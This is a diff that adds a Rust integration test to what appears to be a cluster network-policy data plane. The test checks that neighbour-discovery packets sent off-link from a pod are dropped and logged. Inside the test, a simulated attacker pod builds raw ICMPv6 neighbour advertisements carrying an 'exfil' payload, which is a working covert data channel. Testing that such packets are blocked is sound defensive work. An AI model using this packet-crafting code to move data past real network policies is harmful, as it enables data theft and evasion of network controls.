@@ -825,3 +825,114 @@ fn frames_with_cut_ip_headers_are_dropped_as_malformed() {
     }
     lab.down().expect("down");
 }
+
+/// Neighbour discovery as a data channel: the attacker y/c (node-b) sends a
+/// "neighbour advertisement" for its own address, hop limit 255 as ND must
+/// have, with a payload, to the other node's address (a host no pod policy
+/// guards, as any host outside the cluster). Routed, it would carry data past
+/// policy. ND from a pod stays on the link: dropped on the attacker's veth as
+/// nd_invalid, with a flow-log line naming y/c, and node-a receives nothing.
+#[test]
+fn neighbour_discovery_addressed_off_the_link_is_dropped() {
+    if !require_privileges("neighbour_discovery_addressed_off_the_link_is_dropped") {
+        return;
+    }
+    let (lab, agents, attacker) = setup('n');
+    let target = lab.node("node-a").expect("node-a").clone();
+    let (own, dst) = (attacker.ip_v6, target.ip_v6);
+    // node-a listens for ICMPv6 type 136 while the attacker sends.
+    let listener = {
+        let target = target.clone();
+        std::thread::spawn(move || {
+            run_in_netns(&target.netns_path(), move || {
+                // SAFETY: socket(2); the descriptor is owned right away.
+                let fd =
+                    unsafe { libc::socket(libc::AF_INET6, libc::SOCK_RAW, libc::IPPROTO_ICMPV6) };
+                if fd < 0 {
+                    return Err(std::io::Error::last_os_error());
+                }
+                // SAFETY: fresh descriptor.
+                let fd = unsafe { OwnedFd::from_raw_fd(fd) };
+                let deadline = Instant::now() + Duration::from_secs(3);
+                let mut n = 0;
+                let mut buf = [0u8; 2048];
+                while let Some(left) = deadline.checked_duration_since(Instant::now()) {
+                    let mut pfd = libc::pollfd {
+                        fd: fd.as_raw_fd(),
+                        events: libc::POLLIN,
+                        revents: 0,
+                    };
+                    // SAFETY: one pollfd we own.
+                    if unsafe { libc::poll(&mut pfd, 1, left.as_millis().max(1) as i32) } <= 0 {
+                        break;
+                    }
+                    // SAFETY: the buffer outlives the call.
+                    let got = unsafe {
+                        libc::recv(fd.as_raw_fd(), buf.as_mut_ptr().cast(), buf.len(), 0)
+                    };
+                    // Raw ICMPv6 sockets get the ICMPv6 message (no IP header).
+                    if got > 24 && buf[0] == 136 && buf[24..got as usize].starts_with(b"exfil") {
+                        n += 1;
+                    }
+                }
+                Ok(n)
+            })
+            .expect("listen for ICMPv6")
+        })
+    };
+    std::thread::sleep(Duration::from_millis(300));
+    run_in_netns(&attacker.netns_path(), move || {
+        // SAFETY: socket(2); owned right away.
+        let fd = unsafe { libc::socket(libc::AF_INET6, libc::SOCK_RAW, libc::IPPROTO_ICMPV6) };
+        if fd < 0 {
+            return Err(std::io::Error::last_os_error());
+        }
+        // SAFETY: fresh descriptor.
+        let fd = unsafe { OwnedFd::from_raw_fd(fd) };
+        let hops: libc::c_int = 255;
+        // SAFETY: an int option of the right size.
+        unsafe {
+            libc::setsockopt(
+                fd.as_raw_fd(),
+                libc::IPPROTO_IPV6,
+                libc::IPV6_UNICAST_HOPS,
+                std::ptr::from_ref(&hops).cast(),
+                std::mem::size_of::<libc::c_int>() as u32,
+            )
+        };
+        // type 136, code 0, checksum (the kernel fills it), flags, target = own
+        // address, then the payload.
+        let mut msg = vec![136u8, 0, 0, 0, 0x20, 0, 0, 0];
+        msg.extend_from_slice(&own.octets());
+        msg.extend_from_slice(b"exfil: a secret the policy would not let out");
+        // SAFETY: all-zero is a valid sockaddr_in6.
+        let mut addr: libc::sockaddr_in6 = unsafe { std::mem::zeroed() };
+        addr.sin6_family = libc::AF_INET6 as u16;
+        addr.sin6_addr.s6_addr = dst.octets();
+        for _ in 0..5 {
+            // SAFETY: the buffer and the address outlive the call.
+            let n = unsafe {
+                libc::sendto(
+                    fd.as_raw_fd(),
+                    msg.as_ptr().cast(),
+                    msg.len(),
+                    0,
+                    std::ptr::from_ref(&addr).cast(),
+                    std::mem::size_of::<libc::sockaddr_in6>() as u32,
+                )
+            };
+            if n < 0 {
+                return Err(std::io::Error::last_os_error());
+            }
+            std::thread::sleep(Duration::from_millis(100));
+        }
+        Ok(())
+    })
+    .unwrap_or_else(|e| panic!("ND send from y/c: {e}"));
+    let arrived = listener.join().expect("listener");
+    assert_eq!(arrived, 0, "node-a received the attacker's ND payload");
+    let line = wait_flow_log(&agents, "the off-link ND", |v| v["reason"] == "nd_invalid");
+    assert_eq!(line["endpoint"], "y/c", "{line}");
+    assert_eq!(line["verdict"], "deny", "{line}");
+    lab.down().expect("down");
+}
